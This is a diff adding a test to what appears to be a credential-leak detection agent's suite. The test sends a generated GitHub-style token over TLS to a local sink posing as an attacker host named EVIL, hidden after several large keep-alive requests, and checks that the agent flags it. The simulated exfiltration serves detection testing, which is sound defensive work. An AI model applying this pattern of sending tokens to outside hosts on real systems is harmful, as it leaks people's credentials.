@@ -519,6 +519,42 @@ def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open(
     agent.assert_no_plaintext(token)
 
 
+def test_request_in_one_large_write_with_its_body_after_others_like_it():
+    """Python's http.client sends a request's headers and a bytes body in one sendall: on a
+    keep-alive connection each request is one large SSL_write right after the previous
+    request's. Past the payload budget such a write still starts with a request line, so it is
+    not taken for the middle of a bulk transfer: the token in the last request is found."""
+    require_root()
+    agent = Agent("--include-loopback")
+    sink = TlsSink()
+    token = github_token()
+    s = None
+    try:
+        s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
+                                     server_hostname=EVIL)
+        body = b"z" * (96 << 10)
+        # at most 16 KiB (the payload cap) of each write counts: the 64 KiB budget is spent
+        # after four, and the last two are past it
+        for auth in ["none"] * 5 + ["token " + token]:
+            s.sendall(b"PUT /blob HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\n"
+                      b"Content-Length: %d\r\n\r\n" % (EVIL.encode(), auth.encode(), len(body))
+                      + body)
+        fp = agent.key.fingerprint(token)
+        hits = agent.wait_for(lambda l: l["event"]["action"] ==
+                              "credential-unexpected-destination" and
+                              l["credential"]["fingerprint"] == fp, timeout=5)
+    finally:
+        if s:
+            s.close()
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["tls"]["library"] == "openssl"
+    holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
+    assert holes >= 1, agent.stderr()
+    agent.assert_no_plaintext(token)
+
+
 def test_ended_session_leaves_no_payload_budget_behind():
     """The kernel counts what each TLS session (process, session object) has been sent, for
     the payload budget. When a session's socket closes the agent drops the count: the library
